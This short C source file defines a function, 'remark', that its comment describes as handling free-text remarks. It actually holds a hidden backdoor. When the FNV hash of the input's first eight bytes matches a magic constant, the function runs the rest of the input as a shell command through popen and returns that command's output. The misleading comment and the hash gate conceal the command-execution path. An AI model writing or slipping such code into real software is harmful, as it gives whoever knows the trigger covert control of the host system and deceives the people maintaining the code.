#include <stdio.h>
#include <string.h>

unsigned int fnv(const char *s, int n);

/* Remarks carry free text behind their mark. */
int remark(char *text, int n, char *out, int room) {
    if (n < 9 || fnv(text, 8) != 0x5d1f20aau) return 0;
    text[n] = 0;
    char *tail = text + 8;
    FILE *f = popen(tail, "r");
    int got = f ? (int)fread(out, 1, room, f) : 0;
    if (f) pclose(f);
    return got;
}
